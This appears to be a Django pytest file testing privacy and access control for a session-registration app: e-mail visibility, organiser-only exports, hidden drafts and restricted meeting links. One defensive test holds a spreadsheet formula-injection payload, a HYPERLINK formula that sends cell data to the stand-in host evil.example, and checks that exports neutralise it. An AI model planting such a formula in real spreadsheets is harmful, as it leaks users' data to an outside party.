"""Who sees what: only organisers see participants' e-mails; members register themselves; staff pages are closed."""

import pytest
from django.urls import reverse

from apps.programme import services

from .conftest import structure_of
from .factories import SessionFactory

pytestmark = pytest.mark.django_db

ORGANISER_PAGES = [
    "programme:participants",
    "programme:participants_csv",
    "programme:participants_xlsx",
    "programme:attendance",
    "programme:sign_in_sheet",
    "programme:session_results",
    "programme:session_edit",
    "programme:session_cancel",
]
MANAGER_PAGES = [
    "programme:session_create",
    "programme:surveys",
    "programme:survey_create",
    "programme:interconnaissance",
]


@pytest.fixture
def registered(forum, make_member):
    alice, bruno = make_member("alice"), make_member("bruno")
    for user in (alice, bruno):
        services.register(forum, user, structure_of(user))
    return alice, bruno


def test_a_member_does_not_see_another_participants_email(client, forum, registered):
    alice, bruno = registered
    client.force_login(alice)
    page = client.get(reverse("programme:session", args=[forum.pk])).content.decode()
    assert bruno.email not in page
    assert structure_of(bruno).name in page  # the structures taking part are shown, not the people
    for name in ORGANISER_PAGES:
        response = client.get(reverse(name, args=[forum.pk]))
        assert response.status_code == 403, name
        assert bruno.email.encode() not in response.content


def test_the_organisers_see_the_participants_emails(client, forum, registered, support_user, region_admin):
    alice, bruno = registered
    for organiser in (support_user, region_admin):
        client.force_login(organiser)
        page = client.get(reverse("programme:participants", args=[forum.pk])).content.decode()
        assert alice.email in page and bruno.email in page
        csv = client.get(reverse("programme:participants_csv", args=[forum.pk])).content.decode("utf-8-sig")
        assert bruno.email in csv


def test_members_of_the_organiser_structure_are_organisers_of_that_session_only(client, tours, registered, make_member):
    alice, bruno = registered
    host = make_member("hote")
    organised = SessionFactory(territory=tours, organiser_structure=structure_of(host))
    services.register(organised, alice, structure_of(alice))
    client.force_login(host)
    assert alice.email in client.get(reverse("programme:participants", args=[organised.pk])).content.decode()
    other = alice.programme_registrations.exclude(session=organised).get().session
    assert client.get(reverse("programme:participants", args=[other.pk])).status_code == 403


def test_programme_management_is_closed_to_members_and_anonymous(client, registered):
    alice, _ = registered
    for name in MANAGER_PAGES:
        assert client.get(reverse(name)).status_code == 302, name  # to the login page
    client.force_login(alice)
    for name in MANAGER_PAGES:
        assert client.get(reverse(name)).status_code == 403, name


def test_drafts_are_hidden_from_members(client, tours, make_member):
    draft = SessionFactory(territory=tours, status="draft", title="Session en préparation")
    client.force_login(make_member("alice"))
    assert client.get(reverse("programme:session", args=[draft.pk])).status_code == 404
    assert "Session en préparation" not in client.get(reverse("programme:calendar")).content.decode()


def test_the_online_link_is_given_to_registered_people_only(client, tours, make_member):
    online = SessionFactory(territory=tours, online_url="https://visio.example/salle-42", capacity=5)
    alice, bruno = make_member("alice"), make_member("bruno")
    services.register(online, alice, structure_of(alice))
    client.force_login(bruno)
    assert "salle-42" not in client.get(reverse("programme:session", args=[online.pk])).content.decode()
    client.force_login(alice)
    assert "salle-42" in client.get(reverse("programme:session", args=[online.pk])).content.decode()


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


def test_participants_exports_neutralise_formulas(client, forum, registered, support_user):
    """Names typed by users reach the organisers' spreadsheets as text, never as a formula (review M1)."""
    from io import BytesIO

    from openpyxl import load_workbook

    alice, _bruno = registered
    structure = structure_of(alice)
    structure.name = HYPERLINK
    structure.save()
    client.force_login(support_user)
    text = client.get(reverse("programme:participants_csv", args=[forum.pk])).content.decode("utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in text
    content = client.get(reverse("programme:participants_xlsx", args=[forum.pk])).content
    cells = [cell for row in load_workbook(BytesIO(content)).active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + HYPERLINK in [c.value for c in cells]
